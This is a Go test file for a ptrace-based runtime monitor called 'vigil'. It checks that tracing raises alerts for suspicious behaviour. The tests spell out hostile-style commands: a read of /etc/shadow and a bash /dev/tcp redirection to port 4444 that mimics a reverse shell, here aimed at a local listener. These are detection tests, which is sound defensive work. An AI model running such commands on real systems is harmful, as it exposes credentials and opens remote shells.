package main

import (
	"encoding/json"
	"errors"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"testing"
)

// requireTrace skips (or, when VIGIL_REQUIRE_DRIVERS names ptrace, fails)
// a test of `vigil trace` where the ptrace driver cannot run; root says
// whether the test needs root.
func requireTrace(t *testing.T, root bool) {
	t.Helper()
	required := slices.Contains(strings.FieldsFunc(os.Getenv("VIGIL_REQUIRE_DRIVERS"), func(r rune) bool {
		return r == ',' || r == ' '
	}), "ptrace")
	fail := t.Skipf
	if required {
		fail = t.Fatalf
	}
	if runtime.GOOS != "linux" || runtime.GOARCH != "amd64" {
		fail("the ptrace driver is built for linux/amd64 only")
	}
	if root && os.Geteuid() != 0 {
		fail("not root")
	}
}

// traceAlert is the part of a JSON alert the tests look at.
type traceAlert struct {
	Rule   string         `json:"rule"`
	Output string         `json:"output"`
	Fields map[string]any `json:"output_fields"`
}

// traceAlerts returns the JSON alerts among stdout's lines (the traced
// command writes there too).
func traceAlerts(t *testing.T, stdout string) []traceAlert {
	t.Helper()
	var out []traceAlert
	for _, line := range strings.Split(stdout, "\n") {
		if !strings.HasPrefix(line, `{"`) {
			continue
		}
		var a traceAlert
		if err := json.Unmarshal([]byte(line), &a); err != nil {
			continue
		}
		if a.Rule != "" {
			out = append(out, a)
		}
	}
	return out
}

func findAlert(alerts []traceAlert, rule string) *traceAlert {
	for i := range alerts {
		if alerts[i].Rule == rule {
			return &alerts[i]
		}
	}
	return nil
}

// TestTraceShadow is the end-to-end case of issue 4: a traced shell reads
// /etc/shadow through cat, the default rules alert, and vigil exits with
// the shell's status.
func TestTraceShadow(t *testing.T) {
	requireTrace(t, true)
	r := vigil(t, "trace", "--json", "--", "/bin/sh", "-c", "cat /etc/shadow")
	r.want(t, 0)
	a := findAlert(traceAlerts(t, r.stdout), "Sensitive file read by untrusted program")
	if a == nil {
		t.Fatalf("no alert\nstdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
	}
	if a.Fields["fd.name"] != "/etc/shadow" || a.Fields["proc.name"] != "cat" || a.Fields["proc.pname"] != "sh" {
		t.Errorf("alert fields: %v", a.Fields)
	}
	// The shell's status, whatever it is.
	r = vigil(t, "trace", "--json", "--", "/bin/sh", "-c", "cat /etc/shadow > /dev/null; exit 42")
	r.want(t, 42)
	if findAlert(traceAlerts(t, r.stdout), "Sensitive file read by untrusted program") == nil {
		t.Errorf("no alert with exit 42\nstdout:\n%s", r.stdout)
	}
	r = vigil(t, "trace", "--", "/bin/sh", "-c", "kill -KILL $$")
	r.want(t, 128+9)
}

// TestTraceReverseShell connects a traced bash to a listener on a
// suspicious port and redirects its stdout there.
func TestTraceReverseShell(t *testing.T) {
	requireTrace(t, false)
	if _, err := os.Stat("/bin/bash"); err != nil {
		t.Skip("no bash")
	}
	ln, err := net.Listen("tcp", "127.0.0.1:4444")
	if err != nil {
		t.Skipf("cannot listen on port 4444: %v", err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				buf := make([]byte, 64)
				_, _ = c.Read(buf)
				c.Close()
			}()
		}
	}()
	r := vigil(t, "trace", "--json", "--", "/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/4444 && exec 1>&3 && echo hi")
	r.want(t, 0)
	alerts := traceAlerts(t, r.stdout)
	a := findAlert(alerts, "Connection to a suspicious port")
	if a == nil {
		t.Fatalf("no suspicious port alert\nstdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
	}
	if a.Fields["fd.rport"] != float64(4444) || a.Fields["proc.name"] != "bash" {
		t.Errorf("suspicious port alert fields: %v", a.Fields)
	}
	if findAlert(alerts, "Shell with standard streams redirected to the network") == nil {
		t.Errorf("no redirected-streams alert\nstdout:\n%s", r.stdout)
	}
}

func TestTraceUsage(t *testing.T) {
	requireTrace(t, false)
	r := vigil(t, "trace")
	r.want(t, exitUsage)
	r = vigil(t, "trace", "--", "vigil-no-such-command")
	r.want(t, 127)
	if !strings.Contains(r.stderr, "vigil-no-such-command") {
		t.Errorf("stderr: %s", r.stderr)
	}
	// Without "--", the command's flags are its own.
	r = vigil(t, "--log-level", "error", "trace", "/bin/sh", "-c", "exit 3")
	r.want(t, 3)
}

// TestTraceUnprivileged runs `vigil trace` as nobody: a shell spawned by
// the traced command is detected.
func TestTraceUnprivileged(t *testing.T) {
	requireTrace(t, true)
	dir, err := os.MkdirTemp("", "vigil-trace")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	bin, err := os.ReadFile(vigilBin)
	if err != nil {
		t.Fatal(err)
	}
	exe := filepath.Join(dir, "vigil")
	if err := os.WriteFile(exe, bin, 0o755); err != nil {
		t.Fatal(err)
	}
	rules := filepath.Join(dir, "rules.yaml")
	if err := os.WriteFile(rules, []byte(goodRules), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(exe, "trace", "--json", "-r", rules, "--", "/usr/bin/env", "sh", "-c", "sh -c 'exit 4'")
	cmd.Dir = dir
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	var stdout, stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err = cmd.Run()
	var xe *exec.ExitError
	if err != nil && !errors.As(err, &xe) {
		t.Fatal(err)
	}
	if code := cmd.ProcessState.ExitCode(); code != 4 {
		t.Fatalf("exit code %d, want 4\nstdout:\n%s\nstderr:\n%s", code, stdout.String(), stderr.String())
	}
	alerts := traceAlerts(t, stdout.String())
	n := 0
	for _, a := range alerts {
		if a.Rule == "Test shell spawned" {
			n++
			if a.Fields["proc.name"] != "sh" {
				t.Errorf("alert fields: %v", a.Fields)
			}
		}
	}
	if n != 2 {
		t.Errorf("%d shell alerts, want 2 (sh and its child sh)\nstdout:\n%s\nstderr:\n%s", n, stdout.String(), stderr.String())
	}
}
